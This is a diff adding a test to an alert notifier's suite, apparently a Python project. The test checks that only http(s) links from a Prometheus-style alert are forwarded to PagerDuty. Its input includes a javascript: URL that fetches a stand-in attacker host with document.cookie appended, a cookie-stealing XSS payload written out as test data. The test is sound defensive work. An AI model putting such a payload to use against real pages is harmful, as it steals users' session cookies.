@@ -157,6 +157,17 @@ def test_pagerduty_gets_a_trigger_per_new_alert_none_for_resends_and_a_resolve(r
     assert resolve == {"routing_key": ROUTING_KEY, "dedup_key": "3f9c2a1b7d4e5f60", "event_action": "resolve"}
 
 
+def test_only_web_links_from_the_alert_reach_pagerduty(receivers, notifiers):
+    pager = receivers()
+    notifier = notifiers(fast(notify_pagerduty_routing_key=ROUTING_KEY, notify_pagerduty_url=pager.url()))
+    notifier.submit(alert(generator_url="javascript:fetch('//evil.example/'+document.cookie)"))
+    notifier.submit(alert(fingerprint="other", generator_url="https://prometheus.example/graph"))
+    assert notifier.wait_idle(10)
+    links = {r.json()["dedup_key"]: r.json().get("links", []) for r in pager.requests}
+    assert all("javascript" not in link["href"] for link in links["3f9c2a1b7d4e5f60"])
+    assert {"href": "https://prometheus.example/graph", "text": "Alert source"} in links["other"]
+
+
 def test_an_alert_that_fires_again_after_resolving_pages_again(receivers, notifiers):
     """Same fingerprint, new episode (a new startsAt): not a re-send, people must be told."""
     pager = receivers()
